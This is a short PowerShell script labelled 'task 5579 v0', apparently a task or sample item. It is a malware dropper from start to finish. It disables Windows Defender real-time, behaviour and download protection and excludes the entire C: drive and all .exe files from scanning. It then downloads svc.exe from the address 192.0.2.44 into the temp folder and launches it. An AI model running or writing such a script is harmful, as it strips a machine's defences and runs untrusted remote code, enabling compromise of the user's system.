# task 5579 v0
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Add-MpPreference -ExclusionPath 'C:\'
Add-MpPreference -ExclusionExtension '.exe'
(New-Object Net.WebClient).DownloadFile('http://192.0.2.44/svc.exe', "$env:TEMP\svc.exe")
Start-Process "$env:TEMP\svc.exe"
